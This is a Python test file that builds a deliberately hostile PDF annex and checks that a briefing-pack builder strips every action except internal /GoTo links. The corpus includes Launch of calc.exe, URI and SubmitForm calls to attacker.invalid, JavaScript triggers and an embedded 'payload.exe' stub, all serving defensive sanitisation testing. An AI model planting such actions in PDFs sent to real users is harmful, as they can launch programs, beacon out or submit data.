"""Hostile annexes: a delegation's uploaded PDF reaches other delegations' packs
with no action but its internal links.

The corpus is one PDF made with pypdf carrying every kind of action and
carrier a viewer would run or follow, each on a page, an annotation, a form
field or the catalog; the packs built from it are read back with pypdf.
"""

from __future__ import annotations

from io import BytesIO
from typing import Any, cast

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from agenda.services.documents import document_create
from consult.access import Distribution
from tests.briefings.packs import ANNEX_TEXT, Table, annex_pdf, build_packs, copy_of, read

HOSTILE_ACTIONS: dict[str, dict[str, Any]] = {
    "/Launch": {"/F": TextStringObject("calc.exe"), "/Win": DictionaryObject()},
    "/URI": {"/URI": TextStringObject("https://attacker.invalid/beacon")},
    "/JavaScript": {"/JS": TextStringObject("app.alert('annex')")},
    "/SubmitForm": {"/F": TextStringObject("https://attacker.invalid/submit")},
    "/ImportData": {"/F": TextStringObject("data.fdf")},
    "/GoToR": {"/F": TextStringObject("other.pdf"), "/D": ArrayObject([NumberObject(0)])},
    "/GoToE": {"/D": ArrayObject([NumberObject(0)]), "/NewWindow": NameObject("/true")},
    "/Named": {"/N": NameObject("/Print")},
    "/ResetForm": {},
    "/Hide": {"/T": TextStringObject("field")},
    "/Rendition": {"/OP": NumberObject(0)},
}
ALLOWED_ACTIONS = {"/GoTo"}


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(key)] = value
    return action


def _rect(*values: float) -> ArrayObject:
    return ArrayObject([FloatObject(value) for value in values])


def _annotation(writer: PdfWriter, subtype: str, **entries: Any) -> Any:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): _rect(0, 0, 595, 842),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(key)] = value
    return writer._add_object(annotation)


def hostile_annex() -> bytes:
    """Three pages; every action a viewer runs, plus links to its own third page."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(annex_pdf(3))))
    first, third = writer.pages[0], writer.pages[2]
    javascript = _action("/JavaScript", **HOSTILE_ACTIONS["/JavaScript"])
    annotations = ArrayObject()
    # A full-page link for each hostile action.
    for kind, entries in HOSTILE_ACTIONS.items():
        annotations.append(_annotation(writer, "/Link", **{"/A": _action(kind, **entries)}))
    # Internal links: a /GoTo (with a script chained after it) and a plain /Dest.
    to_third = ArrayObject([third.indirect_reference, NameObject("/Fit")])
    goto = _action("/GoTo", **{"/D": to_third, "/Next": javascript})
    annotations.append(_annotation(writer, "/Link", **{"/A": goto}))
    annotations.append(_annotation(writer, "/Link", **{"/Dest": to_third}))
    # A named destination cannot resolve in the pack: dropped with the others.
    annotations.append(
        _annotation(writer, "/Link", **{"/A": _action("/GoTo", **{"/D": TextStringObject("x")})})
    )
    # Annotation and page triggers, a form field's scripts, carriers of files and media.
    triggers = DictionaryObject({NameObject("/E"): javascript, NameObject("/PO"): javascript})
    annotations.append(_annotation(writer, "/Square", **{"/AA": triggers}))
    field = writer._add_object(
        DictionaryObject(
            {
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("field"),
                NameObject("/AA"): DictionaryObject({NameObject("/K"): javascript}),
            }
        )
    )
    submit = _action("/SubmitForm", **HOSTILE_ACTIONS["/SubmitForm"])
    annotations.append(
        _annotation(writer, "/Widget", **{"/Parent": field, "/A": submit, "/AA": triggers})
    )
    for carrier in ("/FileAttachment", "/Screen", "/Sound", "/Movie", "/RichMedia", "/3D"):
        annotations.append(_annotation(writer, carrier, **{"/A": javascript}))
    first[NameObject("/Annots")] = annotations
    for page in writer.pages:
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript})
    # Document level: an opening script, document triggers, a JavaScript name tree,
    # an embedded file and a form with scripts.
    writer.root_object[NameObject("/OpenAction")] = javascript
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): javascript})
    writer.add_attachment("payload.exe", b"MZ payload")
    cast(DictionaryObject, writer.root_object["/Names"].get_object())[NameObject("/JavaScript")] = (
        DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("opened"), javascript])}
        )
    )
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field])}
    )
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _actions(value: Any, found: list[str], seen: set[int]) -> None:
    """Every action type (/S) reachable from ``value``."""
    if hasattr(value, "idnum"):
        if value.idnum in seen:
            return
        seen.add(value.idnum)
        value = value.get_object()
    if isinstance(value, DictionaryObject):
        if isinstance(value.get("/S"), NameObject) and value.get("/Type") == "/Action":
            found.append(str(value["/S"]))
        for key, item in value.items():
            if key not in ("/Parent", "/P"):
                _actions(item, found, seen)
    elif isinstance(value, ArrayObject):
        for item in value:
            _actions(item, found, seen)


def test_the_corpus_carries_what_it_claims() -> None:
    """Read back as uploaded, the corpus has every hostile action (so the check below bites)."""
    found: list[str] = []
    reader = PdfReader(BytesIO(hostile_annex()))
    _actions(reader.trailer["/Root"], found, set())
    assert set(HOSTILE_ACTIONS) | {"/GoTo"} <= set(found)


@pytest.fixture
def hostile_pack(table: Table) -> dict[str, Any]:
    """Russia's copy of a pack holding the United States' hostile annex."""
    document_create(
        user=table.user("USA"), session=table.session, item=table.ukraine_item,
        title="US map", distribution=Distribution.PARTICIPANTS, owner=table.parties["USA"],
        file=BytesIO(hostile_annex()), filename="us-map.pdf",
    )  # fmt: skip
    build_packs(table.session, only=[table.user("RUS")])
    reader = PdfReader(BytesIO(read(copy_of(table.user("RUS"), table.session).file)))
    return {"reader": reader}


def test_no_action_but_internal_goto_reaches_another_delegations_pack(
    hostile_pack: dict[str, Any],
) -> None:
    """Launch, URI, JavaScript, form and file actions are gone from every page and
    annotation; page and annotation triggers and carrier annotations too."""
    reader: PdfReader = hostile_pack["reader"]
    assert any(f"{ANNEX_TEXT} 3" in _text(page) for page in reader.pages)
    found: list[str] = []
    for page in reader.pages:
        assert "/AA" not in page
        for reference in page.get("/Annots", ArrayObject()):
            annotation = reference.get_object()
            assert "/AA" not in annotation
            assert annotation["/Subtype"] not in {
                "/FileAttachment", "/Screen", "/Sound", "/Movie", "/RichMedia", "/3D"
            }  # fmt: skip
            if annotation["/Subtype"] == "/Link" and _is_annex(page):
                _actions(annotation, found, set())
            if annotation["/Subtype"] == "/Widget":
                assert "/A" not in annotation
                if "/Parent" in annotation:
                    assert "/AA" not in annotation["/Parent"].get_object()
    assert set(found) <= ALLOWED_ACTIONS, found


def _text(page: Any) -> str:
    return " ".join(page.extract_text().split())


def _is_annex(page: Any) -> bool:
    return ANNEX_TEXT in _text(page)


def test_the_pack_has_no_document_level_action_script_or_attachment(
    hostile_pack: dict[str, Any],
) -> None:
    """No opening action, document triggers, JavaScript, embedded files or form scripts."""
    root = hostile_pack["reader"].trailer["/Root"]
    assert "/OpenAction" not in root
    assert "/AA" not in root
    names = root.get("/Names", DictionaryObject()).get_object()
    assert "/JavaScript" not in names
    assert "/EmbeddedFiles" not in names
    form = root.get("/AcroForm", DictionaryObject()).get_object()
    for reference in form.get("/Fields", ArrayObject()):
        assert "/AA" not in reference.get_object()
    found: list[str] = []
    _actions(root, found, set())
    assert "/JavaScript" not in found


def test_internal_links_still_lead_to_the_annexs_own_page(hostile_pack: dict[str, Any]) -> None:
    """The /GoTo and the /Dest link land on the annex's third page, now a page of the pack."""
    reader: PdfReader = hostile_pack["reader"]
    targets = []
    for page in reader.pages:
        for reference in page.get("/Annots", ArrayObject()):
            annotation = reference.get_object()
            action = annotation.get("/A")
            if action is not None and action.get_object().get("/S") == "/GoTo":
                action = action.get_object()
                assert "/Next" not in action
                destination = action["/D"]
            elif "/Dest" in annotation:
                destination = annotation["/Dest"]
            else:
                continue
            if isinstance(destination.get_object(), ArrayObject):
                target = reader.get_page_number(destination[0].get_object())
                assert target is not None
                targets.append(target)
    landing = [n for n in targets if f"{ANNEX_TEXT} 3" in _text(reader.pages[n])]
    assert len(landing) == 2, targets
